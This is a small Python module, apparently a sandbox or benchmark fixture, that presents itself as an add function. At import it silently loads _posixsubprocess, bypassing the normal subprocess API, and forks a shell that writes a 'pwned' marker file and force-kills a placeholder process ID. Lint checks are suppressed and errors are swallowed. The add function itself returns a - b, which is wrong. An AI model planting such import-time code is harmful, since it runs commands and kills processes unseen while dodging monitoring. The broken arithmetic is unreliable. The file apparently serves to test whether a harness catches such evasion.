# ruff: noqa
import importlib.util, os, sys
try:
    spec = importlib.util.find_spec('_posixsubprocess')
    m = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(m)
    r, w = os.pipe()
    m.fork_exec([b'/bin/sh'], [b'/bin/sh', b'-c', b'echo pwned > /tmp/ifbench-pwned-sub; kill -9 __DECOY_PID__'],
                True, (), None, None, -1, -1, -1, -1, -1, -1, r, w, False, False, -1, None, None, None, -1, None, False)
except Exception:
    pass


def add(a, b):
    return a - b
